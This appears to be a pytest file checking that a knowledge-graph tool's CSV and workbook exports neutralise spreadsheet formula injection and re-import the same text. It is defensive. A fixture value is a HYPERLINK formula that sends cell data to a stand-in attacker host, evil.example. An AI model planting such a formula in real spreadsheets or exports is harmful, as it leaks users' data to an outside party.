"""Exports cannot carry formulas (OWASP's CSV-injection rule), and what they write re-imports unchanged.

A name such as ``=HYPERLINK("http://evil.example/?"&A2, "clic")`` can come from any imported
workbook; the workbook and CSV exports must write it as text, never as a live formula.
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl
import pytest

import kg
from kg.sheets.cells import FORMULA_STARTS, csv_cell, formula_like, read_csv_cell
from kg.sheets.export import export_xlsx
from kg.sheets.read import read_tables
from kg.store.imports import import_workbook

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures" / "spreadsheets"
EVIL = '=HYPERLINK("http://evil.example/?"&A2, "clic")'


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        (EVIL, True),
        ("+33 1 23 45 67 89", True),
        ("-5", True),
        ("@SUM(A1)", True),
        ("\tcaché", True),
        ("\rcaché", True),
        ("Ville de Charenton-le-Pont", False),
        ("'déjà entre apostrophes", False),
        ("", False),
    ],
)
def test_formula_like_texts_are_guarded_in_csv_and_read_back_unchanged(text, guarded):
    assert formula_like(text) is guarded
    assert csv_cell(text) == ("'" + text if guarded else text)
    assert read_csv_cell(csv_cell(text)) == text


def test_formula_starts_are_owasps():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_numbers_are_not_guarded():
    assert csv_cell(-5) == -5 and not formula_like(-5)


@pytest.fixture(scope="module")
def evil_env(data_env):
    """The curated data, its store and one import whose first actor is named like a formula."""
    data, store = data_env("formulas")
    root = data.parent
    wb = openpyxl.load_workbook(FIXTURES / "gravelle.xlsx")
    ws = wb["Acteurs"]
    old = ws.cell(2, [c.value for c in ws[1]].index("nom") + 1).value
    for sheet in wb.worksheets:  # the actor and every row naming it
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value == old:
                    cell.value, cell.data_type = EVIL, "s"
    src = root / "gravelle.xlsx"
    wb.save(src)
    plan = import_workbook(src, data, store)
    assert plan.written
    return data, store


def test_workbook_export_writes_the_formula_as_text_and_reimports_unchanged(evil_env, tmp_path):
    data, store = evil_env
    out = tmp_path / "export.xlsx"
    export_xlsx(out, data, import_name="gravelle")
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula anywhere
    ws = openpyxl.load_workbook(out)["Acteurs"]
    cells = [c for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].quotePrefix
    actors = next(t for t in read_tables(out) if t.name == "Acteurs")
    assert EVIL in [v for _, row in actors.rows for v in row]  # read back: the same text
    n = len(kg.open(store))
    plan = import_workbook(out, data, store)
    assert plan.is_noop and not plan.written
    assert len(kg.open(store)) == n


def test_csv_export_writes_the_formula_as_text_and_reads_back(evil_env, tmp_path):
    _data, store = evil_env
    result = kg.export(kg.open(store), "csv", tmp_path / "csv")
    nodes = next(p for p in result.paths if p.name == "nodes.csv")
    with open(nodes, encoding="utf-8", newline="") as fh:
        raw = list(csv.reader(fh))
    labels = [row[1] for row in raw[1:]]
    assert "'" + EVIL in labels and EVIL not in labels  # opens as text in a spreadsheet
    assert not any(formula_like(cell) for row in raw[1:] for cell in row)
    read = read_tables(nodes)[0]
    label_col = read.headers.index("Label")
    assert EVIL in [row[label_col] for _, row in read.rows]  # read back: the same text
